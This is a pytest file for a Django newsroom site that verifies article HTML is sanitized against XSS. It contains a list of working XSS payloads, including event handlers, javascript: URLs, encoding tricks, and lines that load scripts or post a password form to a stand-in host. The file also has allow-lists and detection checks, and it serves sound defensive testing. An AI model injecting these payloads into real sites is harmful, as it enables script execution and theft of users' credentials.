"""The body is the one field printed unescaped, so it must be harmless whatever is pasted.

Every payload goes through both doors an editor's HTML can take: `Article.save()` and the
field's clean (`full_clean()`, which the admin form runs). The checks parse the result and
compare it with an allow-list instead of searching for known bad strings.
"""

import html
import re
from html.parser import HTMLParser

import pytest

from tests.factories import ArticleFactory, SectionFactory

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x oNeRrOr=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">x</math>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://ok.example/" onclick="alert(1)">x</a>',
    '<a href="https://ok.example/" target="_blank" style="position:fixed">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<p onclick="alert(1)">x</p>',
    '<strong onmouseover="alert(1)">x</strong>',
    "<blockquote onfocus=alert(1) autofocus tabindex=0>x</blockquote>",
    '<h2 id="x" class="evil" onanimationstart="alert(1)">x</h2>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<p>unclosed <a href="javascript:alert(1)">link <strong>bold',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
]

ALLOWED_TAGS = {
    "p", "h2", "h3", "h4", "strong", "em", "s", "sub", "sup",
    "ul", "ol", "li", "blockquote", "hr", "br", "a",
}  # fmt: skip
SAFE_SCHEMES = {"http", "https", "mailto"}
# Browsers ignore these inside a scheme, which is how `java\tscript:` works.
IGNORED_IN_URLS = re.compile(r"[\x00-\x20]")
NEVER_ON_A_PAGE = {"iframe", "object", "embed", "svg", "math", "form", "base", "frame"}


class Elements(HTMLParser):
    """Every start tag of a document, with its attributes, values unescaped."""

    def __init__(self, text):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def url_scheme(url):
    cleaned = IGNORED_IN_URLS.sub("", html.unescape(url or "")).lower()
    return cleaned.split(":", 1)[0] if ":" in cleaned.split("/", 1)[0] else ""


def assert_harmless_body(body):
    """Only allow-listed tags, no attributes but a link's safe href."""
    for tag, attrs in Elements(body).elements:
        assert tag in ALLOWED_TAGS, f"<{tag}> survived in {body!r}"
        allowed_attrs = {"href"} if tag == "a" else set()
        assert set(attrs) <= allowed_attrs, f"attributes {attrs} survived in {body!r}"
        if "href" in attrs:
            assert url_scheme(attrs["href"]) in SAFE_SCHEMES | {""}, body
    assert "<script" not in body.lower()


def assert_harmless_page(page):
    """No script but our own static files, no handlers, frames or dangerous URLs anywhere."""
    for tag, attrs in Elements(page).elements:
        # The header's search box is the one form every page has, and it is ours.
        if (tag, attrs.get("action")) != ("form", "/search/"):
            assert tag not in NEVER_ON_A_PAGE, f"<{tag}> on the page"
        # JSON-LD structured data is a data block (never run): allowed exactly as we print it.
        if tag == "script" and attrs != {"type": "application/ld+json"}:
            assert attrs.get("src", "").startswith("/static/"), attrs
        for name, value in attrs.items():
            assert not name.startswith("on"), f"{name} on <{tag}>"
            assert name not in {"style", "srcdoc", "formaction"}, f"{name} on <{tag}>"
            if name in {"href", "src", "action", "data"}:
                assert url_scheme(value) not in {"javascript", "data", "vbscript"}, value
    assert "<script>" not in page.lower()


def story_body(page):
    start = page.index('<div class="story-body">') + len('<div class="story-body">')
    return page[start : page.index("</div>", start)]


def test_the_corpus_is_large_enough_to_mean_something():
    assert len(XSS_PAYLOADS) >= 20
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


def test_the_checker_itself_catches_what_it_is_meant_to_catch():
    for dangerous in [
        '<img src="x">',
        '<p onclick="x">a</p>',
        '<a href="java\tscript:x">a</a>',
        '<a href="&#106;avascript:x">a</a>',
        '<p style="color:red">a</p>',
    ]:
        with pytest.raises(AssertionError):
            assert_harmless_body(dangerous)
    with pytest.raises(AssertionError):
        assert_harmless_page("<p><script>alert(1)</script></p>")
    with pytest.raises(AssertionError):
        assert_harmless_page('<svg onload="alert(1)"></svg>')


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_survives_saving_an_article(payload):
    article = ArticleFactory(body=f"<p>Before.</p>{payload}<p>After.</p>")

    article.refresh_from_db()
    assert_harmless_body(article.body)
    assert "Before." in article.body


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_no_payload_survives_the_body_fields_clean(payload):
    article = ArticleFactory.build(section=SectionFactory(), body=f"<p>Before.</p>{payload}")

    article.full_clean()

    assert_harmless_body(article.body)
    assert "Before." in article.body


@pytest.mark.django_db
@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_the_article_page_does_not_carry_the_payload(client, payload):
    article = ArticleFactory(published=True, body=f"<p>Before.</p>{payload}<p>After.</p>")

    response = client.get(article.get_absolute_url())

    assert response.status_code == 200
    page = response.content.decode()
    assert_harmless_body(story_body(page))
    assert_harmless_page(page)


ALLOWED_MARKUP = [
    "<p>Plain paragraph.</p>",
    "<h2>Second-level heading</h2>",
    "<h3>Third-level heading</h3>",
    "<blockquote><p>A quotation.</p></blockquote>",
    "<p><strong>Bold</strong> and <em>italic</em> and <s>struck</s>.</p>",
    "<ul><li><p>First point</p></li><li><p>Second point</p></li></ul>",
    "<ol><li><p>Step one</p></li></ol>",
    '<p><a href="https://example.org/report">the report</a></p>',
    '<p><a href="http://example.org/">plain http</a></p>',
    '<p><a href="mailto:desk@newsroom.example">email the desk</a></p>',
    "<p>Line one<br>line two</p>",
    "<hr>",
]


@pytest.mark.django_db
def test_the_editors_markup_survives_saving_unchanged():
    body = "".join(ALLOWED_MARKUP)

    article = ArticleFactory(body=body)

    article.refresh_from_db()
    assert article.body == body


@pytest.mark.django_db
def test_the_editors_markup_survives_full_clean_unchanged():
    body = "".join(ALLOWED_MARKUP)
    article = ArticleFactory.build(section=SectionFactory(), body=body)

    article.full_clean()

    assert article.body == body


@pytest.mark.django_db
def test_the_editors_markup_is_rendered_as_markup_on_the_article_page(client):
    body = "".join(ALLOWED_MARKUP)
    article = ArticleFactory(published=True, body=body)

    response = client.get(article.get_absolute_url())

    assert story_body(response.content.decode()).strip() == body


@pytest.mark.django_db
def test_a_dangerous_link_keeps_its_text_but_loses_its_address():
    article = ArticleFactory(body='<p><a href="javascript:alert(1)">Read the report</a></p>')

    assert "Read the report" in article.body
    assert "href" not in article.body


@pytest.mark.django_db
def test_a_heading_level_the_editor_does_not_offer_is_removed():
    article = ArticleFactory(body="<h1>Big</h1><h5>Small</h5>")

    assert "<h1>" not in article.body
    assert "<h5>" not in article.body


@pytest.mark.django_db
def test_plain_text_fields_are_escaped_on_the_article_page(client):
    article = ArticleFactory(
        published=True,
        title="<script>alert('headline')</script>",
        summary='<img src=x onerror="alert(1)">',
        lead_image_caption="<b>caption</b>",
    )

    response = client.get(article.get_absolute_url())

    page = response.content.decode()
    assert "&lt;script&gt;alert(&#x27;headline&#x27;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in page
    assert_harmless_page(page)
